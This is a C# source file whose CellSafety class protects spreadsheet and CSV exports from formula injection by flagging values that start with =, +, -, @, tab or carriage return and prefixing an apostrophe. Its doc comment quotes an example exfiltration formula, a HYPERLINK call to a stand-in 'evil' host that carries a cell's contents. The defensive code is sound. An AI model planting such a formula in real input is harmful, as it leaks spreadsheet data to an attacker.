namespace SmeZones.Core.Exports;

/// <summary>
/// Guards exported cells against formula injection (OWASP "CSV injection"): a value a spreadsheet program would
/// read as a formula, such as <c>=HYPERLINK("http://evil/?"&amp;A1)</c> typed into an application form.
/// The .xlsx writer needs no change to the text: its text cells are typed as strings and can never be formulas
/// (<see cref="SharedStrings"/>). CSV has no cell types, so there the text gets a leading apostrophe.
/// </summary>
public static class CellSafety
{
    /// <summary>
    /// Whether a spreadsheet program would take the typed value for a formula: it starts with = + - or @ (after any
    /// leading whitespace), or with a tab or carriage return, which make some programs shift or split the cell first.
    /// </summary>
    public static bool IsFormulaLike(string? value)
    {
        if (string.IsNullOrEmpty(value))
        {
            return false;
        }

        if (value[0] is '\t' or '\r')
        {
            return true;
        }

        foreach (var ch in value)
        {
            if (!char.IsWhiteSpace(ch))
            {
                return ch is '=' or '+' or '-' or '@';
            }
        }

        return false;
    }

    /// <summary>
    /// For CSV: <paramref name="value"/> with a leading <c>'</c> when <see cref="IsFormulaLike"/>; otherwise unchanged.
    /// Null becomes the empty string.
    /// </summary>
    public static string Neutralise(string? value) =>
        string.IsNullOrEmpty(value) ? string.Empty : IsFormulaLike(value) ? "'" + value : value;
}
